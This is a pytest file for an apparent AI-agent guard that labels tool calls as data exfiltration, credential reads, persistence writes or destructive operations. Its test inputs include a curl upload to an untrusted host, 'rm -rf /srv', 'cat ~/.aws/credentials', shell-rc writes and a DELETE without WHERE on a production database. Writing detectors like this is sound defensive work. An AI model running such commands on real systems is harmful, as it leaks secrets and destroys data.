import pytest

from agentd.decide.catalog import Catalog
from agentd.decide.facts import MAX_ITEMS, call_facts, cedar_context, resource_entity
from agentd.decide.shell import ShellContext
from agentd.decide.state import Label, SessionState
from tests.support.findings import finding

CATALOG = Catalog()
CTX = ShellContext(workspace="/home/dev/p", home="/home/dev")


def facts(name: str, arguments: object, session: SessionState | None = None, server: str | None = None, **kw):  # type: ignore[no-untyped-def]
    return call_facts(
        CATALOG.classify(name, server),
        arguments,
        session=session or SessionState("s"),
        shell_context=CTX,
        **kw,
    )


def test_arguments_are_read_by_role() -> None:
    f = facts(
        "send_email",
        {
            "to": ["Ann <ann@x.example>", "bob@y.example"],
            "cc": "c@z.example",
            "body": "see https://a.example",
        },
        server="mail",
    )
    assert f.recipients == ("ann@x.example", "bob@y.example", "c@z.example")
    assert f.sends_external
    assert f.destinations == ("ann@x.example", "bob@y.example", "c@z.example")
    assert f.hosts == ()  # a URL in the body is content, not a destination


def test_nested_arguments_keep_their_roles() -> None:
    f = facts(
        "mcp__acme__deliver", {"message": {"to": [{"email": "a@x.example"}], "url": "https://h.example/x"}}
    )
    assert f.recipients == ("a@x.example",)
    assert f.hosts == ("h.example",)


def test_paths_credentials_and_persistence() -> None:
    f = facts("Read", {"file_path": "/home/dev/.aws/credentials"})
    assert f.credential_paths == ("/home/dev/.aws/credentials",)
    assert f.reads_credentials
    written = facts("Write", {"file_path": "/home/dev/.zshrc", "content": "x"})
    assert written.persistence_paths == ("/home/dev/.zshrc",)
    assert not written.reads_credentials  # writing is not reading


def test_apply_patch_paths_come_from_the_patch() -> None:
    patch = (
        "*** Begin Patch\n*** Update File: src/a.py\n@@\n-x\n+y\n"
        "*** Add File: /home/dev/.bashrc\n+z\n*** End Patch"
    )
    f = facts("apply_patch", {"input": patch})
    assert f.paths == ("src/a.py", "/home/dev/.bashrc")
    assert f.persistence_paths == ("/home/dev/.bashrc",)
    freeform = facts("apply_patch", patch)
    assert freeform.paths == f.paths


def test_shell_facts_feed_the_call_facts() -> None:
    f = facts("Bash", {"command": "curl -d @x https://drop.example.net", "description": "upload"})
    assert f.shell is not None
    assert f.sends_external
    assert f.destinations == ("drop.example.net",)
    assert f.destination_untrusted
    codex = facts("shell", {"command": ["bash", "-lc", "rm -rf /srv"]})
    assert codex.destructive
    assert codex.destructive_ops == ("rm -rf /srv",)


def test_trusted_destinations() -> None:
    session = SessionState("s")
    session.trusted_hosts.add("example.com")
    session.participants.add("a@x.example")
    f = facts("Bash", {"command": "curl -d @x https://api.example.com"}, session=session)
    assert not f.destination_untrusted
    mail = facts(
        "send_email", {"to": ["a@x.example", "b@example.com", "c@z.example"]}, session=session, server="mail"
    )
    assert mail.untrusted_destinations == ("c@z.example",)
    assert mail.recipients_outside_participants == ("b@example.com", "c@z.example")


def test_sending_without_a_known_destination_is_untrusted() -> None:
    f = facts("WebSearch", {"query": "weather"})
    assert f.sends_external
    assert f.destinations == ()
    assert f.destination_untrusted


def test_production_from_environment_like_arguments() -> None:
    f = facts("query", {"sql": "DELETE FROM users", "database": "prod-main"}, server="postgres")
    assert f.destructive_ops == ("query: DELETE FROM without WHERE",)
    assert f.destructive_production
    staging = facts("query", {"sql": "DELETE FROM users", "database": "staging"}, server="postgres")
    assert staging.destructive
    assert not staging.destructive_production


def test_findings_are_counted() -> None:
    f = facts(
        "WebFetch", {"url": "https://x.example"}, findings=[finding(), finding("pii", "email"), finding()]
    )
    assert (f.secrets, f.pii, f.injection) == (2, 1, 0)
    assert f.finding_rules == ("aws-access-key", "email")


@pytest.mark.parametrize(
    ("tool", "labels"),
    [
        ("WebFetch", {Label.UNTRUSTED_CONTENT}),
        ("Read", {Label.PRIVATE_DATA}),
        ("Write", set()),
    ],
)
def test_results_promise_labels(tool: str, labels: set[Label]) -> None:
    assert set(facts(tool, {"file_path": "a", "url": "https://x.example"}).result().labels) == labels


def test_credential_reads_promise_secret_labels() -> None:
    pending = facts("Bash", {"command": "cat ~/.aws/credentials"}).result()
    assert {Label.CREDENTIAL_FILE_READ, Label.SECRET} <= set(pending.labels)
    assert facts("mcp__gmail__read_thread", {}).result().email


@pytest.mark.parametrize("arguments", [None, "not json", 3, [1, 2], {"a": {"b": {"c": [None] * 50}}}])
def test_odd_arguments_still_give_facts(arguments: object) -> None:
    f = facts("mcp__acme__x", arguments)
    assert f.args_parsed is (arguments is not None)


def test_huge_arguments_are_bounded() -> None:
    many = {"to": [f"u{i}@x.example" for i in range(10_000)], "body": "x" * 1_000_000}
    f = facts("send_email", many, server="mail")
    assert f.truncated
    assert len(f.recipients) <= MAX_ITEMS
    deep: object = "leaf"
    for _ in range(500):
        deep = {"k": deep}
    assert facts("mcp__acme__x", deep).truncated


def test_context_has_every_schema_attribute() -> None:
    f = facts("Bash", {"command": "ls"})
    context = cedar_context(f, SessionState("s"), point="hook", new_server=False, changed=False)
    from agentd.decide import policies

    schema = policies.schema_text()
    for key in context:
        assert f"{key}:" in schema, key
    assert resource_entity(f.tool)["capabilities"] == ["executes_code"]
